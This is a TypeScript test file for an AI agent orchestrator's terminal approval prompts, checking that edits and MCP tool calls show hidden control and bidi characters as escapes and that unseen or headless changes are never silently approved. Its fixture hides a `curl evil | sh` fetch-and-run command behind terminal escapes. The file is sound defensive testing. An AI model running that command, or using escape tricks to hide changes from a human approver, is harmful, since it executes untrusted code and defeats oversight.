import assert from 'node:assert/strict';
import { CliApprovals } from '../../../src/cli/cliApprovals';
import type { TerminalPrompt } from '../../../src/cli/terminalPrompt';
import { renderUnifiedDiff } from '../../../src/cli/unifiedDiff';
import type { EditProposal } from '../../../src/core/tools/approvalPort';
import { mcpProposal } from '../../support/mcpProposal';
import { scriptedTerminal } from '../../support/scriptedTerminal';

const ESC = '\u001b';
/** Content whose `curl evil | sh` a raw terminal would erase: CR, clear-line, then a harmless line. */
const HIDDEN = `curl evil | sh\r${ESC}[2K${ESC}[1A# just a comment`;

function proposal(after: string, before: string | null = 'echo hi\n'): EditProposal {
  return {
    approvalId: 'T1:edit:setup.sh:1',
    runId: 'r1',
    taskId: 'T1',
    agentId: 'coder',
    path: 'setup.sh',
    before: before ?? undefined,
    after,
    reason: 'edits ask',
    protected: false,
    policy: 'ask',
  };
}

function approvals(prompt: TerminalPrompt, maxDiffLines?: number): CliApprovals {
  return new CliApprovals({
    mode: 'prompt',
    prompt,
    color: false,
    maxDiffLines,
    resumeCommand: (id) => `agent-orchestrator resume ${id}`,
  });
}

const numbered = (n: number): string => Array.from({ length: n }, (_, i) => `line ${i + 1}\n`).join('');

describe('checklist 30: terminal approvals show escapes and the whole change', () => {
  it('shows a `curl evil | sh` hidden behind \\r and \\x1b[2K as escapes, with a marker', async () => {
    const term = scriptedTerminal(['n']);
    const decision = await approvals(term.prompt).decideEdit(proposal(`${HIDDEN}\n`), new AbortController().signal);
    assert.equal(decision.decision, 'rejected');
    const out = term.written();
    assert.ok(!out.includes(ESC), 'no raw ESC reaches the terminal');
    assert.ok(!out.includes('\r'), 'no raw CR reaches the terminal');
    assert.ok(out.includes('+curl evil | sh\\r\\x1b[2K\\x1b[1A# just a comment'), out);
    assert.match(out, /⚠ 3 hidden or control characters shown as escapes/);
  });

  it('neutralises bidi overrides and zero-width characters in the path and labels too', async () => {
    const term = scriptedTerminal(['']);
    const p = {
      ...proposal('x\n'),
      path: 'ok\u202Ehs.txt',
      agentId: 'co\u200Bder',
      reason: `fine${ESC}]0;title\u0007`,
    };
    await approvals(term.prompt).decideEdit(p, new AbortController().signal);
    const out = term.written();
    for (const char of ['\u202E', '\u200B', '\u0007', ESC]) assert.ok(!out.includes(char), out);
    assert.ok(out.includes('ok\\u202ehs.txt'));
    assert.ok(out.includes('co\\u200bder'));
    assert.ok(out.includes('fine\\x1b]0;title\\x07'));
  });

  it('a 1,000-line diff states exactly how many lines are hidden and defaults to reject', async () => {
    const whole = renderUnifiedDiff('big.txt', undefined, numbered(1000), { maxLines: Number.POSITIVE_INFINITY });
    assert.equal(whole.totalLines, 1003);
    const term = scriptedTerminal(['']);
    const decision = await approvals(term.prompt).decideEdit(
      proposal(numbered(1000), null),
      new AbortController().signal,
    );
    assert.equal(decision.decision, 'rejected', 'Enter rejects');
    const out = term.written();
    assert.match(out, /… 603 more lines not shown/);
    assert.match(term.questions[0] ?? '', /603 of its 1003 diff lines were not shown/);
    assert.match(term.questions[0] ?? '', /\[v\/apply unseen\/N\/reason\] $/);
    assert.ok(!out.includes('+line 1000'));
  });

  it('y alone does not approve an unseen change; v shows it all, then y approves', async () => {
    const term = scriptedTerminal(['y', 'v', 'y']);
    const decision = await approvals(term.prompt).decideEdit(
      proposal(numbered(1000), null),
      new AbortController().signal,
    );
    assert.equal(decision.decision, 'accepted');
    assert.equal(term.questions.length, 3);
    assert.match(term.questions[1] ?? '', /were not shown/);
    assert.match(term.questions[2] ?? '', /\[y\/N\/reason\] $/);
    const out = term.written();
    assert.match(out, /Not all of this edit was shown/);
    assert.ok(out.includes('+line 1000'));
  });

  it('applying unseen is an explicit answer', async () => {
    const term = scriptedTerminal(['apply unseen']);
    const decision = await approvals(term.prompt, 50).decideEdit(
      proposal(numbered(100), null),
      new AbortController().signal,
    );
    assert.equal(decision.decision, 'accepted');
    assert.match(term.questions[0] ?? '', /53 of its 103 diff lines were not shown/);
  });

  it('a short diff is shown whole and asks y/N as before; auto never prompts', async () => {
    const term = scriptedTerminal(['y']);
    const decision = await approvals(term.prompt).decideEdit(proposal('echo bye\n'), new AbortController().signal);
    assert.equal(decision.decision, 'accepted');
    assert.match(term.questions[0] ?? '', /^Apply this edit to setup\.sh\? \[y\/N\/reason\] $/);
    const auto = scriptedTerminal([]);
    const autoApprovals = new CliApprovals({
      mode: 'auto',
      prompt: auto.prompt,
      color: false,
      resumeCommand: () => '',
    });
    assert.equal(
      (await autoApprovals.decideEdit(proposal(numbered(1000)), new AbortController().signal)).decision,
      'accepted',
    );
    assert.equal(auto.written(), '');
  });

  it('a closed terminal pauses the run rather than approving', async () => {
    const term = scriptedTerminal([]);
    await assert.rejects(
      approvals(term.prompt).decideEdit(proposal(numbered(1000), null), new AbortController().signal),
      /terminal closed before an answer/,
    );
  });
});

describe('checklist 30: an MCP tool call is asked as one, with its arguments escaped', () => {
  const signal = (): AbortSignal => new AbortController().signal;

  it('names server and tool, shows the arguments with escapes, and says it is not a command', async () => {
    const t = scriptedTerminal(['y']);
    const title = `Fix${ESC}[2K\u202e it`;
    const decision = await approvals(t.prompt).decideCommand(mcpProposal({ title, labels: ['bug'] }), signal());
    assert.deepEqual(decision, { decision: 'accepted', by: 'user' });
    const out = t.written();
    assert.match(out, /wants to call an MCP tool:\n {2}Server: {4}github\n {2}Tool: {6}create_issue\n {2}Arguments:\n/);
    assert.ok(out.includes('"title": "Fix\\u001b[2K\\u202e it"'), out);
    assert.ok(!out.includes(ESC) && !out.includes('\u202e'), 'no raw escape reaches the terminal');
    assert.match(out, /⚠ 2 hidden or control characters shown as escapes .* in these arguments/);
    assert.doesNotMatch(out, /run a command|Program and arguments/);
    assert.deepEqual(t.questions, ['Call this MCP tool? [y/N/reason] ']);
  });

  it('arguments too long to show are never called on a plain yes, and the prompt says how much is hidden', async () => {
    const big = { body: 'x'.repeat(25_000) };
    const yes = scriptedTerminal(['y']);
    const refused = await approvals(yes.prompt).decideCommand(mcpProposal(big), signal());
    assert.equal(refused.decision, 'rejected');
    assert.match(yes.written(), /… \d+ more characters of the arguments are not shown\./);
    const unseen = scriptedTerminal(['call unseen']);
    assert.equal((await approvals(unseen.prompt).decideCommand(mcpProposal(big), signal())).decision, 'accepted');
  });

  it('without a terminal the run pauses with a message that names the MCP tool, not a command line', async () => {
    const headless = new CliApprovals({
      mode: 'auto',
      prompt: undefined,
      color: false,
      resumeCommand: (id) => `ao resume ${id}`,
    });
    await assert.rejects(
      headless.decideCommand(mcpProposal({ q: 1 }), signal()),
      /^TaskFailure: Approval needed to call the MCP tool "create_issue" of server "github" \(an MCP tool call always needs a person, and there is no terminal to ask on\)\. Decide with: ao resume r1 --approve prompt$/,
    );
  });
});
